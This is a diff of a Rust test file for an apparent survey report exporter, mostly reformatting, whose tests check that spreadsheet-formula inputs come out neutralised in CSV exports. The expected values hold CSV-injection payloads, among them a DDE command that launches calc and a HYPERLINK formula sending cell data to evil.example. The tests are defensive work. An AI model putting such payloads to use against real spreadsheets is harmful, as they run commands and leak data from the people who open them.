@@ -54,15 +54,28 @@ fn exports(db: &TestDb, questionnaire: &str, audience: OrganisationKind) -> Expo
     .expect("campaign");
     for (i, name) in HOSTILE[..3].iter().enumerate() {
         let comment = HOSTILE[(i + 3) % HOSTILE.len()];
-        respond(&mut conn, details.campaign.id, q, (name, audience), (i, comment));
+        respond(
+            &mut conn,
+            details.campaign.id,
+            q,
+            (name, audience),
+            (i, comment),
+        );
     }
     let out = tempfile::tempdir().expect("a folder");
     let options = ReportOptions {
         radars: false,
         ..ReportOptions::new(3)
     };
-    build_campaign_reports(&mut conn, &catalogue, &details, options, out.path(), &|_| {})
-        .expect("reports built");
+    build_campaign_reports(
+        &mut conn,
+        &catalogue,
+        &details,
+        options,
+        out.path(),
+        &|_| {},
+    )
+    .expect("reports built");
     let dir = out.path().join(details.campaign.id.to_string());
     Exports { _out: out, dir }
 }
@@ -160,7 +173,10 @@ fn assert_nothing_runs(name: &str, (first, records): &(String, Vec<Vec<String>>)
         .expect("a first line")
         .expect("valid CSV");
     assert_eq!(line.len(), 1, "{name}: {first}");
-    assert!(line[0].starts_with("# TLP:AMBER — Exports"), "{name}: {first}");
+    assert!(
+        line[0].starts_with("# TLP:AMBER — Exports"),
+        "{name}: {first}"
+    );
     for cell in records.iter().flatten() {
         let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
         assert!(
@@ -215,7 +231,15 @@ fn hostile_names_and_answers_come_out_neutralised_in_every_export() {
             .filter(|r| r[4] == "context-comment")
             .map(|r| r[5].as_str())
             .collect();
-        assert_eq!(comments, ["'@SUM(A1:A2)", "'\t=cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"], "{db}");
+        assert_eq!(
+            comments,
+            [
+                "'@SUM(A1:A2)",
+                "'\t=cmd|' /C calc'!A0",
+                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+            ],
+            "{db}"
+        );
     }
 }
 
@@ -287,6 +311,9 @@ fn a_maturity_report_names_its_tier_table_in_every_export_and_beside_every_tier(
         let (_, aggregates) = exports.read("aggregates.csv");
         assert_eq!(aggregates[0].len(), 14, "{db}: tier counts kept");
         assert_rounded(&format!("{db}: aggregates.csv"), &aggregates);
-        assert!(column(&aggregates, "mean").contains(&"1.67"), "{db}: (1+2+2)/3");
+        assert!(
+            column(&aggregates, "mean").contains(&"1.67"),
+            "{db}: (1+2+2)/3"
+        );
     }
 }
